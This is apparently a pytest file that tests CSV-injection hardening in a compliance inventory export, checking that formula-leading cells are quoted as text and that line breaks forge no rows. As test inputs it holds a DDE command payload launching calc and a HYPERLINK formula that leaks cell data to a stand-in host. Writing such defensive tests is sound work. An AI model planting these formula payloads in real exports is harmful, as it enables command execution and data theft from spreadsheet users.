"""`gate inventory export --format csv` opened in a spreadsheet (usersrev16).

Before: a declared model name such as `=HYPERLINK("https://x.example/?"&A2,"sdxl")` went into the CSV as
written, and Excel, LibreOffice and Google Sheets evaluate a cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return (OWASP "CSV injection"); a bare carriage return in a value went out unquoted, so a
spreadsheet read a forged row after it. The model, its provider and version and the training-data sources
are the producer's free text, and an approved-model list is optional.
"""

from __future__ import annotations

import csv
import io

import pytest

from gate.compliance.inventory import Period, as_csv, inventory
from tests.unit.compliance.test_inventory import audit

FORMULA = '=HYPERLINK("https://x.example/?"&A2,"sdxl")'


def _cells(model: dict[str, str], sources: list[str]) -> dict[str, str]:
    record = audit("a", "approved", "2026-11-01T10:00:00Z", model=model)
    record["training_data_sources"] = sources
    rows = list(csv.DictReader(io.StringIO(as_csv(inventory([record], Period())), newline="")))
    assert len(rows) == 1
    return rows[0]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(start: str) -> None:
    value = start + "cmd|' /C calc'!A0"
    row = _cells({"provider": value, "name": value, "version": value}, [value])
    for column in ("model_provider", "model_name", "model_version", "training_data_sources"):
        assert row[column] == "'" + value, column


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_a_line_break_in_a_value_forges_no_row(end: str) -> None:
    """`x\rforged,...` in a model name: one row, the value whole (the reader splits rows at a bare CR)."""
    value = f"sdxl{end}forged,evt-forged,studio"
    assert _cells({"provider": "acme", "name": value, "version": "1"}, [])["model_name"] == value


def test_the_classic_formula_is_text() -> None:
    assert _cells({"provider": "acme", "name": FORMULA, "version": "1"}, [])["model_name"] == "'" + FORMULA


@pytest.mark.parametrize(
    "value",
    ["sdxl-base", "1.0", "v2-beta", "a=b", "stock + own", "x@example", " =indented", "licensed-stock"],
)
def test_ordinary_values_are_written_as_they_are(value: str) -> None:
    """The neighbours: a sign or '=' inside a value, or after a space, starts no formula."""
    row = _cells({"provider": "acme", "name": value, "version": value}, [value])
    assert row["model_name"] == row["model_version"] == row["training_data_sources"] == value
